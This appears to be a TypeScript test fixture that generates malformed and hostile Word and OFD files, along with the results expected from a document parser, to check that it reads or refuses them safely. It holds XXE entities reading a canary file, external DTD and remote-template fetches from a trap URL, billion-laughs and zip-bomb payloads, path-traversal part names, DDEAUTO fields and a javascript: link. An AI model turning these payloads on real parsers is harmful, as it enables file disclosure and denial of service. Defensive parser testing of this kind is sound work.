import {
  docx,
  docxOf,
  footnotesXml,
  ofd,
  ofdDocument,
  ofdEntry,
  ofdLine,
  ofdPage,
  paragraph,
  RELATIONS,
  wordXml,
  type ZipPart,
  zip,
} from './containers.ts';
import { encodeUtf16le, withMark } from './encodings.ts';
import {
  CANARY,
  CANARY_PATH,
  type HostileFile,
  type Read,
  type Refused,
  TRAP_URL,
} from './file.ts';
import { PARAGRAPHS, TITLE } from './report.ts';
import { noise } from './textFiles.ts';

const FIGURE = '地方财政收入10544.4万元';
const LAST = '为建设富裕、文明、宜居的新云溪而努力奋斗！';
const BODY = [TITLE, ...PARAGRAPHS].map(paragraph).join('');
const whole = { has: [TITLE, FIGURE, LAST], format: 'docx' };
const file = (name: string, bytes: () => Uint8Array, expected: Read | Refused): HostileFile => ({
  name,
  bytes,
  expected,
});
const run = (text: string, properties = '') =>
  `<w:r>${properties && `<w:rPr>${properties}</w:rPr>`}<w:t xml:space="preserve">${text}</w:t></w:r>`;
const deleted = (text: string) =>
  `<w:del w:id="1" w:author="x"><w:r><w:delText>${text}</w:delText></w:r></w:del>`;
const field = (code: string, result: string) =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${code}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>${result}<w:r><w:fldChar w:fldCharType="end"/></w:r>`;
const box = (text: string) => `<w:txbxContent>${paragraph(text)}</w:txbxContent>`;
const MB = 1024 * 1024;

const numbered = (level: number, text: string) =>
  `<w:p><w:pPr><w:numPr><w:ilvl w:val="${level}"/><w:numId w:val="1"/></w:numPr></w:pPr>${run(text)}</w:p>`;
const level = (at: number, format: string, pattern: string) =>
  `<w:lvl w:ilvl="${at}"><w:start w:val="1"/><w:numFmt w:val="${format}"/><w:lvlText w:val="${pattern}"/></w:lvl>`;
const LISTS: ZipPart[] = [
  {
    name: 'word/numbering.xml',
    data: `<w:numbering xmlns:w="w"><w:abstractNum w:abstractNumId="7">${level(0, 'chineseCounting', '%1、')}${level(1, 'chineseCounting', '（%2）')}${level(2, 'decimal', '%3.')}</w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="7"/></w:num></w:numbering>`,
  },
  {
    name: 'word/styles.xml',
    data: `<w:styles xmlns:w="w"><w:style w:styleId="Item"><w:pPr><w:numPr><w:ilvl w:val="2"/><w:numId w:val="1"/></w:numPr></w:pPr></w:style><w:style w:styleId="3"><w:basedOn w:val="Item"/></w:style></w:styles>`,
  },
];

/** What Word can put into a document, and how it must read. */
const WORD: HostileFile[] = [
  file('文档_普通.docx', () => docx(BODY), whole),
  file(
    '文档_修订.docx',
    () =>
      docx(
        `${BODY}<w:p>${run('完成')}${deleted('旧数300')}<w:ins w:id="2" w:author="x">${run('新数400')}</w:ins>${run('户')}</w:p>`,
      ),
    {
      ...whole,
      has: [...whole.has, '完成新数400户'],
      hasNot: ['旧数300'],
      notices: ['revisions-accepted'],
    },
  ),
  file(
    '文档_移动修订.docx',
    () =>
      docx(
        `${BODY}<w:p><w:moveFrom>${run('移走的话')}</w:moveFrom></w:p><w:p><w:moveTo>${run('移来的话')}</w:moveTo></w:p>`,
      ),
    {
      ...whole,
      has: [...whole.has, '移来的话'],
      hasNot: ['移走的话'],
      notices: ['revisions-accepted'],
    },
  ),
  file(
    '文档_删除段落标记.docx',
    () =>
      docx(
        `${BODY}<w:p><w:pPr><w:rPr><w:del w:id="3" w:author="x"/></w:rPr></w:pPr>${run('前半句，')}</w:p><w:p>${run('后半句。')}</w:p>`,
      ),
    {
      ...whole,
      has: [...whole.has, '前半句，后半句。'],
    },
  ),
  file(
    '文档_批注.docx',
    () =>
      docx(`${BODY}<w:p>${run('有批注的话')}<w:r><w:commentReference w:id="0"/></w:r></w:p>`, [
        { name: 'word/comments.xml', data: wordXml(paragraph('批注内容')) },
      ]),
    {
      ...whole,
      has: [...whole.has, '有批注的话'],
      hasNot: ['批注内容'],
      notices: ['comments-dropped'],
    },
  ),
  file(
    '文档_脚注.docx',
    () =>
      docx(
        `${BODY}<w:p>${run('开展三清一增')}<w:r><w:footnoteReference w:id="2"/></w:r>${run('工作')}</w:p>`,
        [
          {
            name: 'word/footnotes.xml',
            data: footnotesXml(
              `<w:footnote w:id="-1" w:type="separator"><w:p/></w:footnote><w:footnote w:id="2">${paragraph('三清一增指清资源。')}</w:footnote>`,
            ),
          },
        ],
      ),
    {
      ...whole,
      has: [...whole.has, '开展三清一增工作', '三清一增指清资源。'],
      notices: ['notes-kept'],
    },
  ),
  file(
    '文档_表格.docx',
    () =>
      docx(
        `${BODY}<w:tbl><w:tr><w:tc>${paragraph('流转土地')}</w:tc><w:tc>${paragraph('6600')}${paragraph('亩')}</w:tc></w:tr><w:tr><w:tc>${paragraph('改厕')}</w:tc><w:tc>${paragraph('4651户')}</w:tc></w:tr></w:tbl>`,
      ),
    {
      ...whole,
      has: [...whole.has, '流转土地\t6600 亩\n改厕\t4651户'],
      notices: ['tables-as-lines'],
    },
  ),
  file(
    '文档_表中表.docx',
    () =>
      docx(
        `${BODY}<w:tbl><w:tr><w:tc><w:tbl><w:tr><w:tc>${paragraph('里层甲')}</w:tc><w:tc>${paragraph('里层乙')}</w:tc></w:tr></w:tbl></w:tc><w:tc>${paragraph('外层')}</w:tc></w:tr></w:tbl>`,
      ),
    {
      ...whole,
      has: [...whole.has, '里层甲\t里层乙\t外层'],
    },
  ),
  file(
    '文档_删除的行.docx',
    () =>
      docx(
        `${BODY}<w:tbl><w:tr><w:trPr><w:del w:id="4" w:author="x"/></w:trPr><w:tc>${paragraph('删去的行')}</w:tc></w:tr><w:tr><w:tc>${paragraph('留下的行')}</w:tc></w:tr></w:tbl>`,
      ),
    {
      ...whole,
      has: [...whole.has, '留下的行'],
      hasNot: ['删去的行'],
    },
  ),
  file(
    '文档_文本框.docx',
    () =>
      docx(
        `${BODY}<w:p>${run('框前')}<w:r><mc:AlternateContent><mc:Choice Requires="wps">${box('框中话')}</mc:Choice><mc:Fallback>${box('框中话')}</mc:Fallback></mc:AlternateContent></w:r>${run('框后')}</w:p>`,
      ),
    {
      ...whole,
      has: [...whole.has, '框前框后\n框中话'],
      hasNot: ['框中话\n框中话'],
      notices: ['text-boxes-kept'],
    },
  ),
  file(
    '文档_隐藏文字.docx',
    () =>
      docx(
        `${BODY}<w:p>${run('看得见')}${run('看不见', '<w:vanish/>')}${run('仍可见', '<w:vanish w:val="false"/>')}</w:p>`,
      ),
    {
      ...whole,
      has: [...whole.has, '看得见仍可见'],
      hasNot: ['看不见'],
      notices: ['hidden-text'],
    },
  ),
  file(
    '文档_目录.docx',
    () => docx(`<w:p>${field(' TOC \\o "1-3" ', run('一、目录里的标题 1'))}</w:p>${BODY}`),
    {
      ...whole,
      hasNot: ['目录里的标题'],
    },
  ),
  file(
    '文档_目录未闭合.docx',
    () =>
      docx(
        `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> TOC </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r></w:p>${BODY}`,
      ),
    whole,
  ),
  file(
    '文档_自动编号.docx',
    () =>
      docx(
        `${BODY}${numbered(0, '工作回顾')}${numbered(1, '产业发展')}${numbered(1, '乡村振兴')}${numbered(0, '工作任务')}${numbered(1, '项目建设')}<w:p><w:pPr><w:pStyle w:val="3"/></w:pPr>${run('改造校舍')}</w:p><w:p><w:pPr><w:pStyle w:val="3"/></w:pPr>${run('修建道路')}</w:p><w:p><w:pPr><w:pStyle w:val="3"/><w:numPr><w:numId w:val="0"/></w:numPr></w:pPr>${run('不编号的话')}</w:p>`,
        LISTS,
      ),
    {
      ...whole,
      has: [
        ...whole.has,
        '一、工作回顾\n（一）产业发展\n（二）乡村振兴\n二、工作任务\n（一）项目建设\n1.改造校舍\n2.修建道路\n不编号的话',
      ],
      notices: ['numbers-written'],
    },
  ),
  file(
    '文档_外链域.docx',
    () =>
      docx(
        `${BODY}<w:p>${field(` INCLUDETEXT "${CANARY_PATH}" `, run('域结果'))}${field(` DDEAUTO c:\\\\evil `, run('数据'))}</w:p>`,
      ),
    {
      ...whole,
      has: [...whole.has, '域结果'],
      hasNot: [CANARY, 'DDEAUTO', 'INCLUDETEXT'],
    },
  ),
  file(
    '文档_脚本链接.docx',
    () =>
      docx(
        `${BODY}<w:p><w:hyperlink r:id="rId9" xmlns:r="http://r">${run('点此领奖')}</w:hyperlink></w:p>`,
        [
          {
            name: 'word/_rels/document.xml.rels',
            data: `<Relationships><Relationship Id="rId9" Target="javascript:evil()" TargetMode="External"/></Relationships>`,
          },
        ],
      ),
    {
      ...whole,
      has: [...whole.has, '点此领奖'],
      hasNot: ['javascript', 'evil'],
    },
  ),
  file(
    '文档_远程模板.docx',
    () =>
      docx(BODY, [
        {
          name: 'word/_rels/settings.xml.rels',
          data: `<Relationships><Relationship Type="attachedTemplate" Target="${TRAP_URL}/evil.dotm" TargetMode="External"/></Relationships>`,
        },
      ]),
    whole,
  ),
  file('文档_宏.docm', () => docx(BODY, [{ name: 'word/vbaProject.bin', data: noise(5000) }]), {
    ...whole,
    notices: ['macros-ignored'],
  }),
  file(
    '文档_嵌入对象.docx',
    () => docx(BODY, [{ name: 'word/embeddings/oleObject1.bin', data: noise(5000) }]),
    whole,
  ),
  file('文档_伪装.txt', () => docx(BODY), whole),
  file('文档_伪装.pdf', () => docx(BODY), whole),
  file('文档_伪装.wps', () => docx(BODY), whole),
  file(
    '文档_utf16.docx',
    () => docxOf(withMark([0xff, 0xfe], encodeUtf16le(wordXml(BODY).replace('UTF-8', 'UTF-16')))),
    whole,
  ),
  file(
    '文档_正文另名.docx',
    () =>
      zip([
        { name: '_rels/.rels', data: RELATIONS.replace('word/document.xml', 'word/document2.xml') },
        { name: 'word/document2.xml', data: wordXml(BODY) },
      ]),
    whole,
  ),
  file(
    '文档_深层嵌套表.docx',
    () =>
      docx(`${BODY}${'<w:tbl><w:tr><w:tc>'.repeat(1000)}${'</w:tc></w:tr></w:tbl>'.repeat(1000)}`),
    {
      code: 'unsafe-document',
      says: '嵌套过深',
    },
  ),
  file(
    '文档_十万段.docx',
    () =>
      docx(
        `${BODY}${Array.from({ length: 100_000 }, (_, index) => paragraph(`补充${noise(6 + (index % 7)).join('')}项之${index}。`)).join('')}`,
      ),
    whole,
  ),
  file('文档_倒序字符.docx', () => docx(`${BODY}${paragraph('甲\u202e乙')}`), {
    ...whole,
    has: [...whole.has, '甲乙'],
    notices: ['bidi-controls'],
  }),
];

const dtd = (definition: string, use: string) =>
  wordXml(`${BODY}${paragraph(use)}`).replace(
    '<w:document',
    `<!DOCTYPE d [${definition}]><w:document`,
  );
const lols = Array.from(
  { length: 9 },
  (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`,
).join('');
const unsafe: Refused = { code: 'unsafe-document', says: '不安全' };

const ATTACKS: HostileFile[] = [
  file(
    '攻击_外部实体.docx',
    () => docxOf(dtd(`<!ENTITY x SYSTEM "file://${CANARY_PATH}">`, '&x;')),
    unsafe,
  ),
  file(
    '攻击_外部DTD.docx',
    () =>
      docxOf(
        wordXml(BODY).replace(
          '<w:document',
          `<!DOCTYPE d SYSTEM "${TRAP_URL}/evil.dtd"><w:document`,
        ),
      ),
    unsafe,
  ),
  file(
    '攻击_参数实体.docx',
    () => docxOf(dtd(`<!ENTITY % p SYSTEM "${TRAP_URL}/evil.dtd">%p;`, '甲')),
    unsafe,
  ),
  file('攻击_十亿大笑.docx', () => docxOf(dtd(`<!ENTITY l0 "lol">${lols}`, '&l9;')), unsafe),
  file(
    '攻击_脚注外部实体.docx',
    () =>
      docx(`${BODY}<w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p>`, [
        {
          name: 'word/footnotes.xml',
          data: footnotesXml(`<w:footnote w:id="1">${paragraph('&x;')}</w:footnote>`).replace(
            '<w:footnotes',
            `<!DOCTYPE d [<!ENTITY x SYSTEM "file://${CANARY_PATH}">]><w:footnotes`,
          ),
        },
      ]),
    unsafe,
  ),
  file(
    '攻击_关系外部实体.docx',
    () =>
      zip([
        {
          name: '_rels/.rels',
          data: RELATIONS.replace(
            '<Relationships',
            `<!DOCTYPE d [<!ENTITY x SYSTEM "file://${CANARY_PATH}">]><Relationships`,
          ),
        },
        { name: 'word/document.xml', data: wordXml(BODY) },
      ]),
    unsafe,
  ),
  file('攻击_未定义实体.docx', () => docxOf(wordXml(`${BODY}${paragraph('&evil;')}`)), {
    code: 'damaged-document',
    says: '内部结构有误',
  }),
  file(
    '攻击_炸弹正文.docx',
    () =>
      docxOf(
        Buffer.concat([Buffer.from(wordXml(BODY).slice(0, -20)), Buffer.alloc(200 * MB, 0x20)]),
      ),
    {
      code: 'compression-bomb',
      says: '压缩炸弹',
    },
  ),
  file(
    '攻击_炸弹谎报大小.docx',
    () =>
      zip([
        { name: '_rels/.rels', data: RELATIONS },
        { name: 'word/document.xml', data: Buffer.alloc(20 * MB, 0x20), claimedSize: 1000 },
      ]),
    {
      code: 'damaged-document',
      says: '压缩数据不完整',
    },
  ),
  file(
    '攻击_炸弹在图片.docx',
    () => docx(BODY, [{ name: 'word/media/image1.png', data: Buffer.alloc(70 * MB) }]),
    whole,
  ),
  file(
    '攻击_炸弹在脚注.docx',
    () =>
      docx(`${BODY}<w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p>`, [
        { name: 'word/footnotes.xml', data: Buffer.alloc(70 * MB, 0x20) },
      ]),
    {
      code: 'compression-bomb',
      says: '压缩炸弹',
    },
  ),
  file(
    '攻击_两万个部件.docx',
    () =>
      zip([
        { name: 'word/document.xml', data: wordXml(BODY) },
        ...Array.from(
          { length: 20_000 },
          (_, index): ZipPart => ({ name: `word/x${index}`, data: '', stored: true }),
        ),
      ]),
    {
      code: 'compression-bomb',
      says: '内含文件超过 10000 个',
    },
  ),
  file('攻击_越界部件名.docx', () => docx(BODY, [{ name: '../../evil.txt', data: 'evil' }]), {
    code: 'damaged-document',
    says: '压缩包目录有误',
  }),
  file(
    '攻击_重名部件.docx',
    () => docx(BODY, [{ name: 'word/document.xml', data: wordXml(paragraph('另一份正文')) }]),
    {
      ...whole,
      hasNot: ['另一份正文'],
    },
  ),
  file(
    '攻击_自套压缩包.docx',
    () => zip([{ name: 'a.zip', data: zip([{ name: 'b.zip', data: noise(1000) }]) }]),
    {
      code: 'archive-file',
      says: '压缩包（zip）',
    },
  ),
];

const DAMAGED: HostileFile[] = [
  file('损坏_截半.docx', () => docx(BODY).subarray(0, 900), {
    code: 'damaged-document',
    says: '压缩包不完整',
  }),
  file('损坏_缺尾.docx', () => docx(BODY).subarray(0, -12), {
    code: 'damaged-document',
    says: '压缩包不完整',
  }),
  file('损坏_缺正文.docx', () => zip([{ name: 'word/styles.xml', data: '<w/>' }]), {
    code: 'damaged-document',
    says: '缺少正文部分',
  }),
  file('损坏_正文空白.docx', () => docxOf(''), { code: 'damaged-document', says: '内部结构有误' }),
  file('损坏_标签不配.docx', () => docxOf(wordXml(`${BODY}</w:p>`)), {
    code: 'damaged-document',
    says: '内部结构有误',
  }),
  file('损坏_正文中断.docx', () => docxOf(wordXml(BODY).slice(0, -40)), {
    code: 'damaged-document',
    says: '内部结构有误',
  }),
  file('损坏_正文是噪声.docx', () => docxOf(noise(3000)), {
    code: 'damaged-document',
    says: '内部结构有误',
  }),
  file(
    '损坏_压缩流.docx',
    () => {
      const bytes = Uint8Array.from(docx(BODY));
      bytes.set(noise(300), 700);
      return bytes;
    },
    { code: 'damaged-document', says: '读不出文字' },
  ),
  file('损坏_没有文字.docx', () => docx('<w:p/>'), { code: 'no-body', says: '没有文字' }),
  file('损坏_只有图片.docx', () => docx('<w:p><w:r><w:drawing/></w:r></w:p>'), {
    code: 'scanned-document',
    says: '只有图片',
  }),
  file(
    '加密_部件.docx',
    () => zip([{ name: 'word/document.xml', data: wordXml(BODY), encrypted: true }]),
    { code: 'encrypted-document', says: '设有密码' },
  ),
  file('空压缩包.docx', () => zip([]), { code: 'no-body', says: '空的压缩包' }),
  file('表格文件.xlsx', () => zip([{ name: 'xl/workbook.xml', data: '<x/>' }]), {
    code: 'unsupported-format',
    says: '电子表格',
  }),
  file('演示文件.pptx', () => zip([{ name: 'ppt/presentation.xml', data: '<x/>' }]), {
    code: 'unsupported-format',
    says: '演示文稿',
  }),
  file('压缩包.zip', () => zip([{ name: '报告.txt', data: TITLE }]), {
    code: 'archive-file',
    says: '请先解压',
  }),
];

const ofdBody = () => {
  const lines = [TITLE, ...PARAGRAPHS].flatMap((text) => {
    const indented = `　　${text}`;
    return indented.match(/.{1,32}/gu) ?? [];
  });
  const pages: string[] = [];
  for (let from = 0; from < lines.length; from += 20) {
    const content = lines.slice(from, from + 20).map((line, index) => {
      const indent = line.startsWith('　　') ? 10 : 0;
      return ofdLine(25 + indent, 30 + index * 10, line.trimStart());
    });
    pages.push(
      ofdPage(
        `${ofdLine(60, 12, '云溪镇人民政府文件')}${content.join('')}${ofdLine(100, 282, `— ${pages.length + 1} —`)}`,
      ),
    );
  }
  return ofd(pages);
};

const OFD: HostileFile[] = [
  file('版式_普通.ofd', ofdBody, {
    has: [TITLE, ...PARAGRAPHS.slice(3)],
    hasNot: ['— 1 —', '云溪镇人民政府文件'],
    format: 'ofd',
  }),
  file('版式_图片.ofd', () => ofd([ofdPage('<ofd:ImageObject ID="1" Boundary="0 0 210 297"/>')]), {
    code: 'scanned-document',
    says: '没有文字层',
  }),
  file('版式_空.ofd', () => ofd([ofdPage('')]), { code: 'no-body', says: '没有文字' }),
  file(
    '版式_缺页.ofd',
    () =>
      zip([
        { name: 'OFD.xml', data: ofdEntry },
        { name: 'Doc_0/Document.xml', data: ofdDocument(3) },
      ]),
    { code: 'damaged-document', says: '一页也读不出' },
  ),
  file('版式_缺文档.ofd', () => zip([{ name: 'OFD.xml', data: ofdEntry }]), {
    code: 'damaged-document',
    says: '缺少正文部分',
  }),
  file(
    '版式_外部实体.ofd',
    () =>
      zip([
        {
          name: 'OFD.xml',
          data: ofdEntry.replace(
            '<ofd:OFD',
            `<!DOCTYPE d [<!ENTITY x SYSTEM "file://${CANARY_PATH}">]><ofd:OFD`,
          ),
        },
      ]),
    unsafe,
  ),
  file('版式_加密.ofd', () => ofd([ofdPage('')], [{ name: 'Encryptions.xml', data: '<x/>' }]), {
    code: 'encrypted-document',
    says: '设有密码',
  }),
  file('版式_炸弹.ofd', () => ofd([Buffer.alloc(70 * MB, 0x20).toString('latin1')]), {
    code: 'compression-bomb',
    says: '压缩炸弹',
  }),
  file(
    '版式_越界路径.ofd',
    () =>
      zip([
        { name: 'OFD.xml', data: ofdEntry.replace('Doc_0/Document.xml', `../../..${CANARY_PATH}`) },
      ]),
    { code: 'damaged-document', says: '缺少正文部分' },
  ),
  file(
    '版式_谎报步距.ofd',
    () =>
      ofd([
        ofdPage(
          `<ofd:TextObject Boundary="20 20 100 5" Size="5"><ofd:TextCode X="0" Y="5" DeltaX="g 999999999 5">${TITLE}</ofd:TextCode></ofd:TextObject>`,
        ),
      ]),
    { has: [TITLE], format: 'ofd' },
  ),
];

export const PACKAGE_FILES: readonly HostileFile[] = [...WORD, ...ATTACKS, ...DAMAGED, ...OFD];
